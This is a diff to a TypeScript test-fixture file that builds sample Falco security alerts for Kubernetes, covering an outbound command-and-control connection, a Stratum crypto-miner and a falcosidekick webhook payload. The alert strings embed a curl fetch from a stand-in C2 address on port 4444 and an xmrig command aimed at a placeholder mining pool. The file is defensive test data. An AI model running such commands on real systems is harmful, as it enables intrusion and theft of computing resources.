@@ -94,3 +94,67 @@ export function falcoShellAlert(namespace = 'shop', pod = 'cart-5d9c7', extra: O
     ...extra,
   };
 }
+
+/**
+ * Falco's HTTP output for an outbound connection to a known command-and-control address, in
+ * Falco's documented JSON output format; the remote end is `fd.rip`/`fd.rport` with `fd.l4proto`.
+ */
+export function falcoC2Alert(namespace: string, pod: string, remote = { ip: '203.0.113.7', port: 4444 }): Obj {
+  return {
+    hostname: 'node-1',
+    output: `12:01:00.000000001: Warning Outbound connection to C2 server (command=curl -s http://${remote.ip}:${remote.port}/p connection=10.244.0.12:50514->${remote.ip}:${remote.port} user=root container_id=9be3d7a1f2c4 image=shop/api k8s.ns=${namespace} k8s.pod=${pod})`,
+    priority: 'Warning',
+    rule: 'Outbound Connection to C2 Servers',
+    source: 'syscall',
+    tags: ['maturity_sandbox', 'host', 'container', 'network', 'mitre_command_and_control', 'TA0011'],
+    time: '2026-01-30T12:01:00.000000001Z',
+    output_fields: {
+      'container.id': '9be3d7a1f2c4',
+      'container.image.repository': 'shop/api',
+      'container.name': 'app',
+      'evt.time': 1769774460000000001,
+      'fd.l4proto': 'tcp',
+      'fd.name': `10.244.0.12:50514->${remote.ip}:${remote.port}`,
+      'fd.rip': remote.ip,
+      'fd.rport': remote.port,
+      'k8s.ns.name': namespace,
+      'k8s.pod.name': pod,
+      'proc.cmdline': `curl -s http://${remote.ip}:${remote.port}/p`,
+      'proc.pid': 4242,
+      'user.loginuid': -1,
+      'user.name': 'root',
+    },
+  };
+}
+
+/** Falco's alert for a miner speaking the Stratum protocol (a critical rule of Falco's catalogue). */
+export function falcoMinerAlert(namespace: string, pod: string): Obj {
+  return {
+    hostname: 'node-1',
+    output: `12:02:00.000000002: Critical Possible miner running (command=xmrig -o stratum+tcp://pool.example:3333 pid=777 container_id=51f0c2d9e8a7 image=shop/worker k8s.ns=${namespace} k8s.pod=${pod})`,
+    priority: 'Critical',
+    rule: 'Detect crypto miners using the Stratum protocol',
+    source: 'syscall',
+    tags: ['maturity_stable', 'host', 'container', 'process', 'mitre_impact', 'T1496'],
+    time: '2026-01-30T12:02:00.000000002Z',
+    output_fields: {
+      'container.id': '51f0c2d9e8a7',
+      'container.image.repository': 'shop/worker',
+      'container.name': 'worker',
+      'evt.time': 1769774520000000002,
+      'k8s.ns.name': namespace,
+      'k8s.pod.name': pod,
+      'proc.cmdline': 'xmrig -o stratum+tcp://pool.example:3333',
+      'proc.pid': 777,
+      'user.name': 'root',
+    },
+  };
+}
+
+/**
+ * falcosidekick's webhook body for a Falco alert: the same fields (its FalcoPayload) plus the
+ * `uuid` it gives each event; `source`, `tags` and `hostname` are carried over from Falco.
+ */
+export function falcosidekickPayload(falco: Obj, uuid: string): Obj {
+  return { uuid, output: falco.output, priority: falco.priority, rule: falco.rule, time: falco.time, output_fields: falco.output_fields, source: falco.source ?? 'syscall', tags: falco.tags ?? [], hostname: falco.hostname };
+}
